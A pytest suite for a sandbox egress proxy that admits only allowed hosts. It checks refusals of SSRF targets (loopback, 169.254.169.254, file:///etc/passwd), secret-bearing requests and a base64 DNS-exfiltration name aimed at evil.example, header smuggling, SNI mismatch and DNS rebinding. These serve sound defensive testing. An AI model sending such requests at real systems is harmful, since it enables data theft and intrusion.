"""The way out of a box, as what runs in the box sees it: a socket that leads to allowed hosts and nowhere else."""

import asyncio
import logging
import os
import socket
import ssl
import stat
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path

import pytest

from activities.http import network
from activities.sandbox.proxy import SOCKET, Proxy, ProxyLimits
from clara.hosts import AllowedHost, allowed_host
from tests.loopback.http import Server, answer, drip, endless, redirect, silence
from tests.patience import PATIENCE_S

SECRET = "sk-secret-4711"
Opened = Callable[..., Proxy]


@pytest.fixture
async def server() -> AsyncIterator[Server]:
    async with Server({"/": answer(b"hello from the index")}) as running:
        yield running


async def here(host: str, port: int) -> Sequence[str]:
    """Every name is this machine, and every number itself."""
    return [host if host[0].isdigit() or ":" in host else "127.0.0.1"]


@pytest.fixture
def proxy(server: Server, tmp_path: Path) -> Opened:
    """A proxy that may reach ``index.example`` at the server's port, which is trusted to be here, and what is given."""

    def make(*hosts: str, **more: object) -> Proxy:
        allowed = [allowed_host(f"index.example:{server.port}"), *map(allowed_host, hosts)]
        options = {"trusted": [f"http://index.example:{server.port}"], "resolve": here, **more}
        return Proxy(tmp_path / SOCKET, allowed, box="box4711", **options)  # type: ignore[arg-type]

    return make


async def ask(path: Path, *said: bytes, end: bool = False) -> bytes:
    """All that is answered to these bytes until the connection is closed."""
    reader, writer = await asyncio.open_unix_connection(path)
    answered = b""
    try:
        async with asyncio.timeout(PATIENCE_S):
            for number, each in enumerate(said):
                if number:
                    answered += await reader.read(1000)
                writer.write(each)
            if end:
                writer.write_eof()
            while piece := await reader.read(100_000):
                answered += piece
    except ConnectionError:
        pass
    finally:
        writer.close()
    return answered


def get(url: str, *headers: str) -> bytes:
    return "\r\n".join([f"GET {url} HTTP/1.1", "Host: lies.example", *headers, "", ""]).encode()


def connect(target: str) -> bytes:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()


async def test_a_request_reaches_an_allowed_host_and_its_answer_comes_back(
    server: Server, proxy: Opened, tmp_path: Path
) -> None:
    url = f"http://index.example:{server.port}/?q=1"
    async with proxy() as opened:
        answered = await ask(tmp_path / SOCKET, get(url, "Proxy-Authorization: x", "Connection: x-hop", "X-Hop: 1"))
        assert answered.startswith(b"HTTP/1.1 200 OK\r\n")
        assert answered.endswith(b"hello from the index")
        [asked] = server.asked
        assert asked.line == "GET /?q=1 HTTP/1.1"
        assert asked.headers == {"host": f"index.example:{server.port}", "connection": "close"}
        assert opened.refused == ()
        assert opened.size > 0


async def test_a_body_is_passed_on(server: Server, proxy: Opened, tmp_path: Path) -> None:
    async with proxy():
        head = f"POST http://index.example:{server.port}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n"
        answered = await ask(tmp_path / SOCKET, head.encode() + b"hello and more")
        assert answered.startswith(b"HTTP/1.1 200 OK\r\n")
    assert [asked.body for asked in server.asked] == [b"hello"], "what follows the request goes nowhere"


async def test_a_tunnel_carries_bytes_both_ways_until_both_ends_are_done(proxy: Opened, tmp_path: Path) -> None:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write((await reader.read()).upper())
        writer.close()

    far = await asyncio.start_server(echo, "127.0.0.1", 0)
    port = far.sockets[0].getsockname()[1]
    async with proxy(f"echo.example:{port}", trusted=[f"http://echo.example:{port}"]):
        answered = await ask(tmp_path / SOCKET, connect(f"echo.example:{port}"), b"hello" * 10_000, end=True)
        assert answered.startswith(b"HTTP/1.1 200 ")
        assert answered.partition(b"\r\n\r\n")[2] == b"HELLO" * 10_000
    far.close()


REFUSED = {
    "another host": (get("http://evil.example/"), "403 evil.example:80 is not among the hosts"),
    "another port": (get("http://pages.example:8080/"), "403 pages.example:8080 is not among"),
    "a name below": (get("http://sub.pages.example/"), "403 sub.pages.example:80 is not among"),
    "a name beside": (get("http://evilpages.example/"), "403 evilpages.example:80 is not among"),
    "the top of a wildcard": (get("http://wild.example/"), "403 wild.example:80 is not among"),
    "this machine": (get("http://127.0.0.1/"), "403 127.0.0.1:80 is not among"),
    "this machine, allowed": (get("http://127.0.0.2/"), "403 127.0.0.2 is in a private network"),
    "this machine, IPv6": (get("http://[::1]/"), "403 ::1:80 is not among"),
    "a number": (get("http://2130706433/"), "403 2130706433:80 is not among"),
    "metadata, allowed": (get("http://169.254.169.254/latest"), "403 169.254.169.254 is in a private network"),
    "a name that is inside": (get("http://pages.example/"), "403 pages.example is in a private network"),
    "a name below that is inside": (get("http://a.wild.example/"), "403 a.wild.example is in a private network"),
    "a tunnel elsewhere": (connect("evil.example:443"), "403 evil.example:443 is not among"),
    "a tunnel inside": (connect("pages.example:443"), "403 pages.example is in a private network"),
    "a tunnel for mail": (connect("pages.example:25"), "403 pages.example:25 is not among"),
    "a tunnel without TLS": (connect("pages.example:80"), "403 No tunnel leads to port 80"),
    "plain HTTP to 443": (get("http://pages.example:443/"), "403 Nothing goes to port 443 in plain HTTP"),
    "a tunnel without a port": (connect("pages.example"), "400 A tunnel needs a host and a port."),
    "a port that does not exist": (connect("pages.example:99999"), "400 A tunnel needs"),
    "no host": (connect(":443"), "400 A tunnel needs"),
    "no name": (get("http://a..b/"), "400 That is no name of a host."),
    "a name and password": (get("http://kim@pages.example/"), "400 Only http://"),
    "https without a tunnel": (get("https://pages.example/"), "400 Only http://"),
    "ftp": (get("ftp://pages.example/"), "400 Only http://"),
    "file": (get("file:///etc/passwd"), "400 Only http://"),
    "a path alone": (get("/etc/passwd"), "400 Only http://"),
    "a port of letters": (get("http://pages.example:x/"), "400 That is not a URL."),
    "no HTTP": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", "400 That is no HTTP."),
    "SOCKS": (b"\x05\x01\x00\r\n\r\n", "400 That is no HTTP."),
    "two lengths": (get("http://pages.example/", "Content-Length: 5", "Content-Length: 6"), "400 That is no HTTP."),
    "a length that is none": (get("http://pages.example/", "Content-Length: +5"), "400 That is no HTTP."),
    "a head without an end": (b"GET http://pages.example/ HTTP/1.1\r\nX: " + b"x" * 50_000, "400 That is no HTTP."),
    "a line in a header": (get("http://pages.example/", "X: a\nHost: b"), "400 That is no HTTP."),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_what_is_refused_and_how_it_is_told(proxy: Opened, tmp_path: Path, name: str) -> None:
    said, words = REFUSED[name]
    hosts = ("pages.example", "*.wild.example", "127.0.0.2", "169.254.169.254")
    async with proxy(*hosts) as opened:
        answered = (await ask(tmp_path / SOCKET, said)).decode()
        assert answered.startswith(f"HTTP/1.1 {words}")
        told = words.partition(" ")[2]
        assert all(sentence.startswith(told) for sentence in opened.refused)
        assert len(opened.refused) == ("is not among" in told or "private network" in told)


async def test_refusals_are_told_once_to_the_model_and_to_the_operator(
    proxy: Opened, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO):
        async with proxy() as opened:
            for _ in range(3):
                await ask(tmp_path / SOCKET, get(f"http://evil.example/?key={SECRET}", f"Authorization: {SECRET}"))
            for number in range(50):
                await ask(tmp_path / SOCKET, connect(f"host{number}.example:443"))
    assert opened.refused[0] == "evil.example:80 is not among the hosts that may be reached from here."
    assert len(opened.refused) == 20
    assert caplog.text.count("box box4711: evil.example:80 is not among") == 1
    assert SECRET not in caplog.text


@pytest.fixture
def hello() -> Callable[[str | None], bytes]:
    """The first message of TLS to a host."""

    def make(host: str | None) -> bytes:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        out = ssl.MemoryBIO()
        with pytest.raises(ssl.SSLWantReadError):
            context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=host).do_handshake()
        return out.read()

    return make


async def test_a_tunnel_is_for_the_host_that_it_was_asked_for(
    proxy: Opened, tmp_path: Path, hello: Callable[[str | None], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through one host of a provider that serves many, others could be asked for by their names."""
    arrived: list[bytes] = []

    async def far(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        arrived.append(await reader.read(10_000))
        writer.write(b"hello back")
        writer.close()

    server = await asyncio.start_server(far, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    monkeypatch.setattr("activities.sandbox.proxy.exchange.TUNNELLED", port)
    async with proxy(f"pages.example:{port}", trusted=[f"http://pages.example:{port}"]) as opened:
        good = hello("pages.example")
        assert b"hello back" in await ask(tmp_path / SOCKET, connect(f"pages.example:{port}"), good)
        for wrong in (hello("evil.example"), hello(None), get("http://evil.example/"), b"SSH-2.0-x\r\n", b"\x16\x03"):
            answered = await ask(tmp_path / SOCKET, connect(f"pages.example:{port}"), wrong, end=True)
            assert b"hello back" not in answered
        cut = await ask(tmp_path / SOCKET, connect(f"pages.example:{port}") + good[:100], good[100:])
        assert b"hello back" in cut, "a first message may come in pieces, and with the request"
        assert [each for each in arrived if each] == [good, good]
        assert "A tunnel to pages.example was used for another host, so nothing was passed on." in opened.refused
    server.close()


async def test_what_was_checked_is_connected_to(
    server: Server, proxy: Opened, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(network, "is_public", lambda address: address == "127.0.0.1")
    addresses = iter(["127.0.0.1", "127.0.0.2"])

    async def rebinding(host: str, port: int) -> Sequence[str]:
        return [next(addresses)]

    async with Server({"/": answer(SECRET.encode())}, host="127.0.0.2", port=server.port) as inside:
        async with proxy(f"rebind.example:{server.port}", trusted=[], resolve=rebinding):
            url = get(f"http://rebind.example:{server.port}/")
            assert b"hello from the index" in await ask(tmp_path / SOCKET, url)
            assert b"403 rebind.example is in a private network" in await ask(tmp_path / SOCKET, url)
        assert inside.asked == []


async def test_a_host_is_looked_up_only_once_it_is_allowed(proxy: Opened, tmp_path: Path) -> None:
    asked: list[str] = []

    async def resolve(host: str, port: int) -> Sequence[str]:
        asked.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "no such name")

    async with proxy("pages.example", resolve=resolve):
        await ask(tmp_path / SOCKET, connect("c2VjcmV0.evil.example:443"))
        assert asked == []
        assert b"403 There is no host named pages.example." in await ask(
            tmp_path / SOCKET, connect("PAGES.example.:443")
        )
        assert asked == ["pages.example"]


async def test_a_redirect_is_for_the_client_to_follow(server: Server, proxy: Opened, tmp_path: Path) -> None:
    server.routes["/"] = redirect("http://127.0.0.1/")
    async with proxy():
        answered = await ask(tmp_path / SOCKET, get(f"http://index.example:{server.port}/"))
    assert answered.startswith(b"HTTP/1.1 302 ")


LIMITS = ProxyLimits(connections=2, size=200_000, head_s=0.3, idle_s=0.3, total_s=1.0)


@pytest.mark.parametrize("respond", [silence, drip, endless], ids=["silence", "drip", "endless"])
async def test_a_connection_ends_in_bytes_and_in_time(
    server: Server, proxy: Opened, tmp_path: Path, respond: object
) -> None:
    server.routes["/"] = respond  # type: ignore[assignment]
    async with proxy(limits=LIMITS) as opened:
        answered = await ask(tmp_path / SOCKET, get(f"http://index.example:{server.port}/"))
        assert len(answered) < 300_000
        if respond is silence:
            assert b"504 That took too long." in answered
        if respond is endless:
            assert opened.refused == ("More than 195 KiB went in and out, which is too much.",)
            again = await ask(tmp_path / SOCKET, get(f"http://index.example:{server.port}/"))
            assert b"403 More than 195 KiB" in again, "for as long as the proxy is open"


async def test_who_says_nothing_is_not_waited_for(proxy: Opened, tmp_path: Path) -> None:
    async with proxy(limits=LIMITS):
        assert b"504" in await ask(tmp_path / SOCKET, b"GET http://index.exa")


async def test_only_some_connections_are_taken_at_once(server: Server, proxy: Opened, tmp_path: Path) -> None:
    server.routes["/"] = silence
    async with proxy(limits=ProxyLimits(connections=2)):
        held = [await asyncio.open_unix_connection(tmp_path / SOCKET) for _ in range(2)]
        await asyncio.sleep(0.05)
        assert b"503 Too many connections" in await ask(tmp_path / SOCKET, get("http://index.example/"))
        for _, writer in held:
            writer.close()


async def test_when_it_is_closed_everything_is(server: Server, proxy: Opened, tmp_path: Path) -> None:
    server.routes["/"] = silence
    async with proxy():
        reader, writer = await asyncio.open_unix_connection(tmp_path / SOCKET)
        writer.write(get(f"http://index.example:{server.port}/"))
        async with asyncio.timeout(PATIENCE_S):
            while not server.asked:
                await asyncio.sleep(0.01)
    assert not (tmp_path / SOCKET).exists()
    async with asyncio.timeout(PATIENCE_S):
        assert await reader.read() == b""
    writer.close()


async def test_it_opens_where_another_was_left_and_where_paths_are_long(server: Server, tmp_path: Path) -> None:
    folder = tmp_path / ("long" * 30)
    folder.mkdir()
    path = folder / SOCKET
    path.write_text("left by a worker that was killed")
    async with Proxy(path, [AllowedHost("index.example", port=server.port)]):
        assert stat.S_ISSOCK(os.stat(path).st_mode)
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o666
    assert not path.exists()
